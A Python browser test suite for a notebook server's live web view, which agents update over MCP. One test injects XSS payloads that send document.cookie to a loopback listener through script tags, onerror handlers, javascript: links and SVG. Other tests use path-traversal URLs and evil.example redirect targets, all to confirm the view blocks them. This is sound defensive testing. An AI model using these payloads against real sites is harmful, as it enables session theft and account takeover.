"""The read-only web view in a real browser: people watch their agents' cells arrive live.

One server (alice, bob, and carol the operator) and one headless Chromium serve the whole module;
each person signs in through the sign-in page in a browser context of their own, and the agent
is the real MCP client. Hostile outputs are produced by a real kernel and checked in the browser:
no dialog opens, no request reaches a listener on loopback, nothing can read the cookie.
Screenshots go to artifacts/screenshots/ (git-ignored; CI keeps them as artifacts).
"""

from __future__ import annotations

import asyncio
import contextlib
import http.server
import os
import re
import shutil
import threading
import time
import urllib.parse
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest
import pytest_asyncio

from testkit import browser
from testkit.client import mcp_client, text
from testkit.server import KernelpoolServer, make_data_dir, server_env
from tests.test_resources import Heard, client

pytestmark = [
    pytest.mark.skipif(browser.missing() is not None, reason=f"browser tests: {browser.missing()}"),
    pytest.mark.filterwarnings("ignore::mcp.MCPDeprecationWarning"),  # log messages: see tests/test_resources.py
    pytest.mark.asyncio(loop_scope="module"),
]

SHOTS = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "artifacts", "screenshots")
WITHIN = 1000  # ms: a change shows in an open page within a second
PNG_CELL = """\
import struct, zlib
from IPython.display import Image, display
def png(w, h):
    rows = b''.join(b'\\x00' + bytes(v for x in range(w) for v in (40 + x * 200 // w, 90 + y * 150 // h, 200)) for y in range(h))
    def chunk(kind, data):
        return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)
    return (b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
            + chunk(b'IDAT', zlib.compress(rows)) + chunk(b'IEND', b''))
print('a gradient, drawn by the kernel')
display(Image(png(320, 120)))
"""


def shot_path(name: str) -> str:
    os.makedirs(SHOTS, exist_ok=True)
    path = os.path.join(SHOTS, name)
    print(f"screenshot: {path}")
    return path


class Listener:
    """An HTTP server on loopback that records every request: a hostile output that got the browser
    to send anything (a beacon, a fetch, an image, a form) shows up here."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def view_kp(server_args: list[str]) -> Iterator[KernelpoolServer]:
    server = KernelpoolServer(make_data_dir(), server_env(KERNELPOOL_POOL_SIZE="0"))
    try:
        for name in ("alice", "bob", "carol"):
            server.add_user(name)
        assert "carol is now an operator" in server.cli("users", "set-admin", "carol").stderr
        server.start(*server_args)
        yield server
    finally:
        server.cleanup()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def chromium() -> AsyncIterator[Any]:
    async with browser.chromium() as b:
        yield b


class Viewer:
    """One person's browser (a context of their own), signed in to the view."""

    def __init__(self, context: Any, page: Any, server: KernelpoolServer, user: str) -> None:
        self.context, self.page, self.server, self.user = context, page, server, user
        self.dialogs: list[str] = []
        page.on("dialog", self._dialog)

    async def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()

    def url(self, path: str) -> str:
        return f"{self.server.base}{path}"


@pytest_asyncio.fixture(loop_scope="module")
async def viewer(chromium: Any, view_kp: KernelpoolServer) -> AsyncIterator[Any]:
    contexts: list[Any] = []

    async def open_as(user: str, *, width: int = 1280, height: int = 800) -> Viewer:
        context = await chromium.new_context(viewport={"width": width, "height": height})
        contexts.append(context)
        page = await context.new_page()
        await page.goto(f"{view_kp.base}/view/{user}/notebooks")
        assert "/signin?next=" in page.url, "a signed-out browser is sent to sign in"
        await browser.sign_in_with_token(page, "", user, view_kp.tokens[user])
        await page.wait_for_url(f"{view_kp.base}/view/{user}/notebooks")
        return Viewer(context, page, view_kp, user)

    try:
        yield open_as
    finally:
        for context in contexts:
            await context.close()


async def agent_call(server: KernelpoolServer, user: str, tool: str, args: dict[str, Any]) -> Any:
    async with mcp_client(server.url, server.tokens[user], mode="auto") as c:
        r = await c.call_tool(tool, args)
        assert not r.is_error, text(r)
        return r


async def test_cells_and_outputs_arrive_live(view_kp: KernelpoolServer, viewer: Any) -> None:
    from playwright.async_api import expect

    await agent_call(view_kp, "alice", "use_notebook", {"notebook": "live.ipynb", "mode": "create"})
    alice = await viewer("alice")
    page = alice.page
    await page.goto(alice.url("/view/alice/notebooks/live.ipynb"))
    await expect(page.locator("#live-status")).to_have_text(re.compile("Live updates: on"), timeout=5000)
    loads: list[str] = []
    page.on("load", lambda _: loads.append("load"))
    async with mcp_client(view_kp.url, view_kp.tokens["alice"], mode="legacy") as agent:
        for i in range(3):
            r = await agent.call_tool("insert_execute_code_cell", {
                "notebook": "live.ipynb", "cell_index": -1, "cell_source": f"print('line {i}'); {i} * 111"})
            assert not r.is_error, text(r)
            cell = page.locator("article.cell-code").nth(i)
            await expect(cell).to_contain_text(f"line {i}", timeout=WITHIN)
            await expect(cell.locator(".output-text")).to_have_text(str(i * 111), timeout=WITHIN)
            await expect(cell.locator(".prompt")).to_have_text(f"[{i + 1}]", timeout=WITHIN)
        # a running cell: marked as running, its output streams in, then it is done
        slow = "import time\nfor i in range(4):\n    print(f'tick {i}', flush=True)\n    time.sleep(0.6)\n'finished'"
        r = await agent.call_tool("insert_cell", {"notebook": "live.ipynb", "cell_index": -1, "cell_type": "code",
                                                  "cell_source": slow})
        cell = page.locator("article.cell-code").nth(3)
        await expect(cell).to_contain_text("tick {i}", timeout=WITHIN)
        r = await agent.call_tool("execute_cell", {"notebook": "live.ipynb", "cell_index": 3, "background": True})
        assert not r.is_error, text(r)
        await expect(cell).to_have_class(re.compile("running"), timeout=WITHIN)
        await expect(cell.locator(".running-label")).to_have_text("running", timeout=WITHIN)
        await expect(cell.locator(".outputs")).to_contain_text("tick 0", timeout=WITHIN)
        assert "running" in (await cell.get_attribute("class") or ""), "output streams in while the cell runs"
        await expect(cell.locator(".outputs")).to_contain_text("tick 1", timeout=WITHIN)
        await expect(cell).not_to_have_class(re.compile("running"), timeout=4000)
        await expect(cell.locator(".output-text")).to_have_text("'finished'", timeout=WITHIN)
        await expect(cell.locator(".prompt")).to_have_text("[4]", timeout=WITHIN)
        # edits and deletions too
        await agent.call_tool("overwrite_cell_source", {"notebook": "live.ipynb", "cell_index": 0,
                                                        "cell_source": "# rewritten by the agent"})
        await expect(page.locator("article.cell-code").first.locator(".source")).to_have_text(
            "# rewritten by the agent", timeout=WITHIN)
        await agent.call_tool("delete_cell", {"notebook": "live.ipynb", "cell_index": 1})
        await expect(page.locator("article.cell-code")).to_have_count(3, timeout=WITHIN)
    assert loads == [], "no reload"
    assert alice.dialogs == []


HOSTILE_HTML = """\
<script>fetch("{L}/script?c=" + document.cookie); alert("script")</script>
<img src="{L}/img-src" onerror="fetch('{L}/onerror?c=' + document.cookie); alert('onerror')">
<img src=x onerror="alert('onerror2')">
<a id="js-link" href="javascript:fetch('{L}/js-link');alert('js-link')">a javascript: link</a>
<svg onload="alert('svg-onload')"><script>fetch("{L}/svg-script")</script></svg>
<iframe src="javascript:alert('iframe')"></iframe><iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">
<form action="{L}/form" method="post"><button id="form-button">send</button></form>
<style>body {{ background: url({L}/style) }}</style><div style="background: url({L}/inline-style)">styled</div>
<object data="{L}/object"></object><embed src="{L}/embed"><link rel="stylesheet" href="{L}/link">
<base href="{L}/"><a id="rel-link" href="relative">a relative link</a>
<details open ontoggle="alert('ontoggle')"><summary>details</summary></details>
<p>visible hostile html</p>"""
HOSTILE_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(\\"svg-image\\")">'
               '<script>fetch("{L}/svg-image-script")</script><image href="{L}/svg-image-href"/></svg>')
HOSTILE_MD = ('<script>alert("md-script")</script> [a md link](javascript:alert("md-link")) '
              '<img src=x onerror=alert("md-img")> ![img]({L}/md-image) <a href="javascript:alert(1)">raw</a>')


def hostile_cells(listener: str) -> list[tuple[str, str]]:
    html = HOSTILE_HTML.format(L=listener)
    svg = HOSTILE_SVG.format(L=listener)
    md = HOSTILE_MD.format(L=listener)
    return [
        ("code", f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"),
        ("code", f"display({{'image/svg+xml': {svg!r}}}, raw=True)"),
        ("code", f"from IPython.display import Markdown\ndisplay(Markdown({md!r}))"),
        ("code", "display({'application/json': {'a': '<script>alert(\"json\")</script>'}}, raw=True)\n"
                 "print('<script>alert(\"stream\")</script>')\nraise ValueError('<img src=x onerror=alert(\"error\")>')"),
        ("markdown", md),
    ]


async def _assert_nothing_ran(viewer: Viewer, listener: Listener) -> None:
    page = viewer.page
    for selector in ("#js-link", "#rel-link", "a:has-text('a md link')", "#form-button"):
        links = page.locator(selector)
        if await links.count():
            await links.first.click(timeout=2000, no_wait_after=True)
    await asyncio.sleep(1.0)
    assert viewer.dialogs == [], f"a hostile output opened dialogs: {viewer.dialogs}"
    assert listener.hits == [], f"a hostile output made the browser send requests: {listener.hits}"
    assert page.url.startswith(viewer.url("/view/alice/notebooks/hostile.ipynb")), page.url
    assert await page.evaluate("document.cookie") == "", "the session cookie is not readable by script"
    assert await page.locator("script:not([src])").count() == 0
    await page.locator(".output-html p", has_text="visible hostile html").wait_for(timeout=2000)
    assert await page.locator(".output-stream", has_text='<script>alert("stream")</script>').count() == 1, "text stays text"
    assert await page.locator(".output-error", has_text='ValueError: <img src=x onerror=alert("error")>').count() == 1


async def test_hostile_outputs_run_nothing(view_kp: KernelpoolServer, viewer: Any) -> None:
    listener = Listener()
    try:
        import httpx2

        async with httpx2.AsyncClient() as http:  # the listener works: a request would be seen
            await http.get(f"{listener.url}/control")
        assert listener.hits == ["/control"]
        listener.hits.clear()
        await agent_call(view_kp, "alice", "use_notebook", {"notebook": "hostile.ipynb", "mode": "create"})
        alice = await viewer("alice")
        await alice.page.goto(alice.url("/view/alice/notebooks/hostile.ipynb"))
        from playwright.async_api import expect

        await expect(alice.page.locator("#live-status")).to_have_text(re.compile("on"), timeout=5000)
        for kind, source in hostile_cells(listener.url):  # live: inserted by the page's script
            tool = "insert_execute_code_cell" if kind == "code" else "insert_cell"
            args = {"notebook": "hostile.ipynb", "cell_index": -1, "cell_source": source}
            await agent_call(view_kp, "alice", tool, args | ({"cell_type": kind} if kind != "code" else {}))
        await expect(alice.page.locator("article.cell")).to_have_count(5, timeout=3000)
        await _assert_nothing_ran(alice, listener)
        await alice.page.reload()  # and rendered by the server
        await _assert_nothing_ran(alice, listener)
        # a kernel names files too: a notebook whose name is markup is listed and shown as text
        name = "<img src=x onerror=alert('name')>\"'.ipynb"
        await agent_call(view_kp, "alice", "execute_code", {
            "notebook": "hostile.ipynb", "code": f"import shutil; shutil.copy('hostile.ipynb', {name!r})"})
        await alice.page.goto(alice.url("/view/alice/notebooks"))
        link = alice.page.get_by_role("link", name=name, exact=True)
        await link.click()
        await alice.page.get_by_role("heading", name=name, exact=True).wait_for()
        await expect(alice.page.locator("article.cell")).to_have_count(5, timeout=3000)
        await asyncio.sleep(0.5)
        assert alice.dialogs == [] and listener.hits == []
    finally:
        listener.close()


async def test_other_people_get_404_and_actions_need_owner_confirmation_and_csrf(
        view_kp: KernelpoolServer, viewer: Any) -> None:
    await agent_call(view_kp, "alice", "use_notebook", {"notebook": "private/secret.ipynb", "mode": "create"})
    await agent_call(view_kp, "alice", "execute_code", {"notebook": "private/secret.ipynb", "code": "x = 41"})
    alice, bob = await viewer("alice"), await viewer("bob")
    await alice.page.goto(alice.url("/view/alice/kernels"))
    href = await alice.page.get_by_role("link", name="Restart the kernel of private/secret.ipynb").get_attribute("href")
    kernel_id = href.split("/")[-2]
    await alice.page.goto(alice.url("/view/alice/notebooks/private/secret.ipynb"))
    page_id = (await alice.page.locator("#live-status").get_attribute("data-events")).rsplit("/", 1)[1]
    for path in ("/view/alice/notebooks", "/view/alice/notebooks/private/secret.ipynb",
                 "/view/alice/download/private/secret.ipynb", "/view/alice/kernels", "/view/alice/activity",
                 f"/view/alice/kernels/{kernel_id}/restart", f"/view/bob/kernels/{kernel_id}/restart",
                 f"/view/events/{page_id}", "/view/operators", "/view/bob/notebooks/%2e%2e/alice/private/secret.ipynb",
                 "/view/bob/notebooks/%2E%2E%2F%2E%2E%2Falice%2Fprivate%2Fsecret.ipynb", "/view/bob/download/..%2Fsecret.ipynb",
                 "/view/bob/notebooks/private/secret.ipynb"):
        r = await bob.context.request.get(bob.url(path), max_redirects=0)
        assert r.status == 404, (path, r.status)
        assert "secret" not in (await r.text()) or path.endswith("secret.ipynb") and "There is nothing" in await r.text()
    r = await bob.context.request.get(bob.url("/view/bob/notebooks"), max_redirects=0)
    assert r.status == 200
    csp = r.headers["content-security-policy"]
    for rule in ("default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "base-uri 'none'"):
        assert rule in csp
    assert "unsafe" not in csp and r.headers["x-frame-options"] == "DENY"
    assert r.headers["x-content-type-options"] == "nosniff"
    bob_csrf = await _csrf(bob, "/view/bob/kernels")
    r = await bob.context.request.post(bob.url(f"/view/alice/kernels/{kernel_id}/restart"),
                                       form={"csrf": bob_csrf, "confirm": "yes"}, max_redirects=0)
    assert r.status in (403, 404)
    r = await alice.context.request.post(alice.url(f"/view/alice/kernels/{kernel_id}/restart"),
                                         form={"confirm": "yes"}, max_redirects=0)
    assert r.status == 403, "no CSRF token, nothing done"
    r = await alice.context.request.post(alice.url(f"/view/alice/kernels/{kernel_id}/restart"),
                                         form={"csrf": await _csrf(alice, "/view/alice/kernels")}, max_redirects=0)
    assert r.status == 400, "not confirmed, nothing done"
    await _still(view_kp, "x", "41")
    # signed out: sent to sign in, and nothing is shown
    anonymous = await alice.context.browser.new_context()
    try:
        r = await anonymous.request.get(alice.url("/view/alice/notebooks/private/secret.ipynb"), max_redirects=0)
        assert r.status == 303 and r.headers["location"].startswith("/signin?next=/view/alice/notebooks/")
        r = await anonymous.request.post(alice.url(f"/view/alice/kernels/{kernel_id}/restart"),
                                         form={"confirm": "yes"}, max_redirects=0)
        assert r.status == 303
        for elsewhere in ("https://evil.example/x", "//evil.example/x", "/view/../mcp", "/view//evil.example"):
            page = await anonymous.new_page()
            await page.goto(alice.url("/signin?" + urllib.parse.urlencode({"next": elsewhere})))
            await browser.sign_in_with_token(page, "", "alice", view_kp.tokens["alice"])
            await page.wait_for_url(alice.url("/view/alice/notebooks"))  # the view's home, not `next`
            await anonymous.clear_cookies()
    finally:
        await anonymous.close()
    await _still(view_kp, "x", "41")
    # the owner, through the confirmation page
    await alice.page.goto(alice.url("/view/alice/kernels"))
    await alice.page.get_by_role("link", name="Restart the kernel of private/secret.ipynb").click()
    await alice.page.get_by_role("heading", name="Restart the kernel of private/secret.ipynb?").wait_for()
    await alice.page.get_by_role("button", name="Yes, restart it").click()
    await alice.page.get_by_text("Restart: done for the kernel of private/secret.ipynb").wait_for()
    r = await agent_call(view_kp, "alice", "execute_code", {"notebook": "private/secret.ipynb", "code": "'x' in dir()"})
    assert text(r).strip() == "False", "the restart gave a fresh kernel"
    audit = view_kp.cli("audit", "--user", "alice").stdout
    assert "view.restart" in audit and "private/secret.ipynb" in audit


async def _csrf(viewer: Viewer, path: str) -> str:
    page = await viewer.context.new_page()
    await page.goto(viewer.url(path))
    links = page.get_by_role("link", name=re.compile("^Interrupt"))
    if await links.count() == 0:
        await agent_call(viewer.server, viewer.user, "use_notebook", {"notebook": "mine.ipynb", "mode": "create"})
        await page.reload()
    await links.first.click()
    value = await page.locator("input[name=csrf]").get_attribute("value")
    await page.close()
    return value


async def _still(server: KernelpoolServer, name: str, value: str) -> None:
    r = await agent_call(server, "alice", "execute_code", {"notebook": "private/secret.ipynb", "code": f"{name} + 1"})
    assert text(r).strip() == str(int(value) + 1), "the kernel kept its variables"


async def test_interrupt_stops_a_running_cell(view_kp: KernelpoolServer, viewer: Any) -> None:
    await agent_call(view_kp, "bob", "use_notebook", {"notebook": "loop.ipynb", "mode": "create"})
    r = await agent_call(view_kp, "bob", "execute_code", {"notebook": "loop.ipynb", "code": "import time; time.sleep(60)",
                                                         "background": True})
    execution = r.structured_content["execution_id"]
    bob = await viewer("bob")
    heard = Heard()
    async with client(view_kp, "bob", heard) as agent:  # an agent's session hears what the person did
        await agent.call_tool("list_kernels", {})
        await bob.page.goto(bob.url("/view/bob/kernels"))
        await bob.page.get_by_role("link", name="Interrupt the kernel of loop.ipynb").click()
        await bob.page.get_by_role("button", name="Yes, interrupt it").click()
        await bob.page.get_by_text("Interrupt: done").wait_for()
        r = await agent.call_tool("get_execution", {"execution_id": execution, "wait": 10})
        assert r.structured_content["status"] == "error" and "KeyboardInterrupt" in text(r), text(r)
        await heard.wait_for("the kernel of loop.ipynb was interrupted by you in the web view")


async def test_lists_activity_and_screenshots(view_kp: KernelpoolServer, viewer: Any) -> None:
    for name in ("analysis/sales.ipynb", "scratch.ipynb", "plots.ipynb"):
        await agent_call(view_kp, "alice", "use_notebook", {"notebook": name, "mode": "create"})
    await agent_call(view_kp, "alice", "insert_cell", {"notebook": "plots.ipynb", "cell_index": -1,
                                                       "cell_type": "markdown", "cell_source": "# Plots\nA *gradient*:"})
    await agent_call(view_kp, "alice", "insert_execute_code_cell", {"notebook": "plots.ipynb", "cell_index": -1,
                                                                    "cell_source": PNG_CELL})
    alice = await viewer("alice")
    page = alice.page
    await page.goto(alice.url("/view/alice/notebooks"))
    names = await page.locator("tbody tr td:first-child").all_inner_texts()
    assert names[0] == "plots.ipynb", "the last changed first"
    assert {"analysis/sales.ipynb", "scratch.ipynb", "live.ipynb"} <= set(names)
    await page.screenshot(path=shot_path("notebooks.png"), full_page=True)
    await page.get_by_role("link", name="name", exact=True).click()
    assert (await page.locator("tbody tr td:first-child").all_inner_texts()) == sorted(names)
    await page.goto(alice.url("/view/alice/notebooks/plots.ipynb"))
    image = page.locator("img.output-image")
    await image.wait_for()
    assert await image.evaluate("img => img.complete && img.naturalWidth") == 320
    await page.screenshot(path=shot_path("notebook-image.png"), full_page=True)
    async with page.expect_download() as download:
        await page.get_by_role("link", name="Download .ipynb").click()
    saved = await (await download.value).path()
    import nbformat

    nbformat.validate(nbformat.read(saved, as_version=4))
    await page.goto(alice.url("/view/alice/kernels"))
    await page.get_by_role("link", name="Interrupt the kernel of plots.ipynb").wait_for()
    assert await page.locator("meter").count() >= 1 or "no limit" in await page.content()
    await page.screenshot(path=shot_path("kernels.png"), full_page=True)
    await page.goto(alice.url("/view/alice/activity"))
    rows = await page.locator("tbody tr").all_inner_texts()
    assert any("insert_execute_code_cell" in r and "plots.ipynb" in r and "mcp" in r and "ok" in r for r in rows), rows[:3]
    assert not any("bob" in r or "loop.ipynb" in r for r in rows), "only her own calls"
    # a phone: the same pages, readable without sideways scrolling of the page
    phone = await viewer("alice", width=390, height=844)
    await phone.page.goto(phone.url("/view/alice/notebooks/plots.ipynb"))
    assert await phone.page.evaluate("document.documentElement.scrollWidth <= window.innerWidth + 1")
    await phone.page.screenshot(path=shot_path("notebook-phone.png"), full_page=True)


async def test_operators_see_every_user_and_no_content(view_kp: KernelpoolServer, viewer: Any) -> None:
    await agent_call(view_kp, "bob", "use_notebook", {"notebook": "bobs-private-work.ipynb", "mode": "create"})
    async with mcp_client(view_kp.url, view_kp.tokens["bob"], mode="auto") as c:
        r = await c.call_tool("read_cell", {"notebook": "bobs-private-work.ipynb", "cell_index": 7})
        assert r.is_error
    carol = await viewer("carol")
    await carol.page.get_by_role("link", name="All users").click()
    await carol.page.get_by_role("heading", name="All users").wait_for()
    rows = {r.split("\t")[0].split()[0]: r for r in await carol.page.locator("tbody tr").all_inner_texts()}
    assert set(rows) == {"alice", "bob", "carol"}
    assert "(operator)" in rows["carol"]
    bob_cells = rows["bob"].split("\t")
    assert int(bob_cells[1].split()[0]) >= 1 and int(bob_cells[5]) >= 1 and bob_cells[6] == "read_cell", bob_cells
    content = await carol.page.content()
    for private in ("bobs-private-work", "secret.ipynb", "plots.ipynb", "x = 41"):
        assert private not in content
    await carol.page.screenshot(path=shot_path("operators.png"), full_page=True)
    r = await carol.context.request.get(carol.url("/view/bob/notebooks"), max_redirects=0)
    assert r.status == 404, "an operator sees no one's notebooks"
    refused = view_kp.cli("users", "set-admin", "nobody", check=False)
    assert refused.returncode == 2 and "nobody" in refused.stderr
    view_kp.cli("users", "set-admin", "carol", "--off")
    r = await carol.context.request.get(carol.url("/view/operators"), max_redirects=0)
    assert r.status == 404, "the flag is read on every request"
    view_kp.cli("users", "set-admin", "carol")


async def test_a_flood_reaches_the_page_bounded(view_kp: KernelpoolServer, viewer: Any) -> None:
    """A cell printing 40 MB as fast as it can: the page gets a bounded stream (updates coalesce,
    each capped), stays responsive, and shows the saved, bounded output at the end."""
    await agent_call(view_kp, "alice", "use_notebook", {"notebook": "flood.ipynb", "mode": "create"})
    await agent_call(view_kp, "alice", "insert_cell", {"notebook": "flood.ipynb", "cell_index": -1, "cell_type": "code",
                                                       "cell_source": "for i in range(400_000):\n    print('x' * 99)"})
    alice = await viewer("alice")
    received: list[int] = []
    alice.page.on("response", lambda r: None)
    client = await alice.context.new_cdp_session(alice.page)
    await client.send("Network.enable")
    client.on("Network.dataReceived", lambda e: received.append(e["dataLength"]))
    await alice.page.goto(alice.url("/view/alice/notebooks/flood.ipynb"))
    from playwright.async_api import expect

    await expect(alice.page.locator("#live-status")).to_have_text(re.compile("on"), timeout=5000)
    received.clear()
    start = time.monotonic()
    await agent_call(view_kp, "alice", "execute_cell", {"notebook": "flood.ipynb", "cell_index": 0, "timeout": 120})
    took = time.monotonic() - start
    cell = alice.page.locator("article.cell-code").first
    await expect(cell.locator(".prompt")).to_have_text("[1]", timeout=5000)
    await expect(cell).to_contain_text("cut in this view: download the notebook", timeout=WITHIN)
    sent = sum(received)
    print(f"flood: {sent} bytes reached the page while the cell ran {took:.1f} s")
    # 40 MB produced; at most 5 updates a second of at most 64 K characters each reach the page
    assert sent < (took + 2) * 5 * 70_000 and sent < 40_000_000 / 10, (sent, took)


async def test_a_person_s_pages_are_bounded(view_kp: KernelpoolServer) -> None:
    """Past 50 open pages of one person the server forgets the oldest no stream reads, else the
    oldest, whose stream is told to reload and ends: a person (or a script with their cookie)
    cannot make the server hold pages without end."""
    import httpx2

    await agent_call(view_kp, "bob", "use_notebook", {"notebook": "many.ipynb", "mode": "create"})
    limits = httpx2.Limits(max_connections=200, max_keepalive_connections=200)
    async with httpx2.AsyncClient(base_url=view_kp.base, timeout=httpx2.Timeout(30, read=30), limits=limits) as http:
        form = await http.get("/signin", params={"next": "/view"})
        csrf = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)  # type: ignore[union-attr]
        r = await http.post("/signin", data={"csrf": csrf, "txn": "", "user": "bob", "token": view_kp.tokens["bob"]})
        assert r.status_code == 303 and r.headers["location"] == "/view"

        async def open_page() -> str:
            r = await http.get("/view/bob/notebooks/many.ipynb")
            return re.search(r'data-events="(/view/events/[^"]+)"', r.text).group(1)  # type: ignore[union-attr]

        async with contextlib.AsyncExitStack() as stack:
            streams = []
            for _ in range(50):  # 50 pages, each read by a stream
                stream = await stack.enter_async_context(http.stream("GET", await open_page()))
                lines = stream.aiter_lines()
                assert await anext(lines) == "retry: 2000"
                streams.append(lines)
            unread = await open_page()  # the 51st: the oldest page is dropped, though read
            first = [line async for line in _lines_within(streams[0], 10)]
            assert "event: reload" in first and "too many pages" in "".join(first), first
            await open_page()  # the 52nd: the one no stream reads goes first
            assert (await http.get(unread)).status_code == 404
            assert [line async for line in _lines_within(streams[1], 0.5) if line] == [], "the read pages stay"


async def test_a_list_cut_short_says_so(view_kp: KernelpoolServer) -> None:
    """A folder with more notebooks than a listing holds: the page lists as many, and says in words
    that the list was cut and that the others still open by path."""
    import httpx2

    home = os.path.join(view_kp.data_dir, "users", "alice")
    owner = os.stat(home)
    many = os.path.join(home, "many")
    os.mkdir(many)
    os.chown(many, owner.st_uid, owner.st_gid)
    try:
        for i in range(10001):  # NOTEBOOK_LIMIT is 10000
            open(os.path.join(many, f"n{i:05}.ipynb"), "w").close()
        async with httpx2.AsyncClient(base_url=view_kp.base, timeout=30) as http:
            form = await http.get("/signin", params={"next": "/view"})
            csrf = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)  # type: ignore[union-attr]
            r = await http.post("/signin", data={"csrf": csrf, "txn": "", "user": "alice", "token": view_kp.tokens["alice"]})
            assert r.status_code == 303
            r = await http.get("/view/alice/notebooks", params={"sort": "name"})
            assert r.status_code == 200
            assert "10000 notebooks in your folder" in r.text, r.text[:2000]
            assert re.search(r'role="note">list cut after 10000 notebooks found .*they still open by path', r.text), r.text[:2000]
    finally:
        shutil.rmtree(many)


async def _lines_within(lines: Any, seconds: float) -> AsyncIterator[str]:
    deadline = time.monotonic() + seconds
    while (left := deadline - time.monotonic()) > 0:
        try:
            yield await asyncio.wait_for(anext(lines), left)
        except (StopAsyncIteration, TimeoutError):
            return
